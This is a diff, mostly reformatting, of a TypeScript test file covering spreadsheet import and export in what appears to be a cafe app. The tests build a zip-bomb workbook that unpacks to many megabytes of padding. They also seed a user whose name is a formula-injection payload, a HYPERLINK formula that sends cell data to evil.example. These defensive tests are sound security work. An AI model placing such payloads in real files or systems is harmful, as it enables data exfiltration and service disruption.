@@ -45,7 +45,8 @@ async function sheetOf(data: Buffer) {
   return book.worksheets[0];
 }
 
-const upload = async (data: Buffer, token = headOffice) => call(register, { method: 'POST', raw: await multipart({ data, name: 'users.xlsx' }), token });
+const upload = async (data: Buffer, token = headOffice) =>
+  call(register, { method: 'POST', raw: await multipart({ data, name: 'users.xlsx' }), token });
 
 beforeAll(async () => {
   env = await setupTestEnv();
@@ -53,8 +54,14 @@ beforeAll(async () => {
   barista = await login(env, DEMO_PHONES.mirdamadBarista);
   customer = await login(env, DEMO_PHONES.customer);
   headOffice = await login(env, '+989120001601');
-  await db().update(s.users).set({ accessLevel: { users: true } }).where(eq(s.users.phone, '+989120001601'));
-  await db().update(s.users).set({ firstName: 'Ali', lastName: 'Karimi', firstNameFa: 'علی', wallet: 75_000 }).where(eq(s.users.phone, DEMO_PHONES.customer));
+  await db()
+    .update(s.users)
+    .set({ accessLevel: { users: true } })
+    .where(eq(s.users.phone, '+989120001601'));
+  await db()
+    .update(s.users)
+    .set({ firstName: 'Ali', lastName: 'Karimi', firstNameFa: 'علی', wallet: 75_000 })
+    .where(eq(s.users.phone, DEMO_PHONES.customer));
 });
 afterAll(async () => env?.close());
 
@@ -195,7 +202,11 @@ function zipOf(entries: { name: string; deflated: Buffer; size: number; crc: num
 }
 
 /** Deflates `head`, then `padMb` megabytes of spaces, then `tail`, a megabyte at a time (the test never holds the whole). */
-async function deflatedPadding(head: string, padMb: number, tail: string): Promise<{ deflated: Buffer; size: number; crc: number }> {
+async function deflatedPadding(
+  head: string,
+  padMb: number,
+  tail: string,
+): Promise<{ deflated: Buffer; size: number; crc: number }> {
   const z = createDeflateRaw();
   const out: Buffer[] = [];
   z.on('data', (c: Buffer) => out.push(c));
@@ -210,7 +221,11 @@ async function deflatedPadding(head: string, padMb: number, tail: string): Promi
   crc = crc32(tail, crc);
   z.end(tail);
   await done;
-  return { deflated: Buffer.concat(out), size: Buffer.byteLength(head) + padMb * 1024 * 1024 + Buffer.byteLength(tail), crc: crc >>> 0 };
+  return {
+    deflated: Buffer.concat(out),
+    size: Buffer.byteLength(head) + padMb * 1024 * 1024 + Buffer.byteLength(tail),
+    crc: crc >>> 0,
+  };
 }
 
 /** A small workbook (one phone column) whose first sheet unpacks to `padMb` megabytes; `claim` overrides the size its zip states. */
@@ -277,9 +292,17 @@ describe('importing a hostile workbook', () => {
 describe('exported cells are never formulas', () => {
   it('writes a name that starts like a formula as text, and keeps numbers as numbers', async () => {
     const phone = '+989121900001';
-    await db()
-      .insert(s.users)
-      .values({ id: 'f0f0f0f0f0f0f0f0f0f0f0f0', phone, referralCode: 'FORMULA1', firstName: '=HYPERLINK("http://evil.example/?d="&A2,"Click")', lastName: '+SUM(1,2)', firstNameFa: '@cmd', lastNameFa: '-2+3', email: '\tx@example.com', wallet: 12_000 });
+    await db().insert(s.users).values({
+      id: 'f0f0f0f0f0f0f0f0f0f0f0f0',
+      phone,
+      referralCode: 'FORMULA1',
+      firstName: '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
+      lastName: '+SUM(1,2)',
+      firstNameFa: '@cmd',
+      lastNameFa: '-2+3',
+      email: '\tx@example.com',
+      wallet: 12_000,
+    });
     const sheet = await sheetOf(await exportBuffer({ text: '09121900001' }));
     const row = sheet.getRow(2);
     expect(row.getCell(1).value).toBe('09121900001');
@@ -307,6 +330,8 @@ describe('file names of downloads', () => {
     }
     const report = await call(financialExport, { query: { from: '2026-11-01', to: '2026-11-25' }, token: superAdmin });
     expect(report.status).toBe(200);
-    expect(report.headers['content-disposition']).toBe(`attachment; filename="financial-report-1405-08-10-to-1405-09-04.xlsx"; filename*=UTF-8''financial-report-1405-08-10-to-1405-09-04.xlsx`);
+    expect(report.headers['content-disposition']).toBe(
+      `attachment; filename="financial-report-1405-08-10-to-1405-09-04.xlsx"; filename*=UTF-8''financial-report-1405-08-10-to-1405-09-04.xlsx`,
+    );
   });
 });
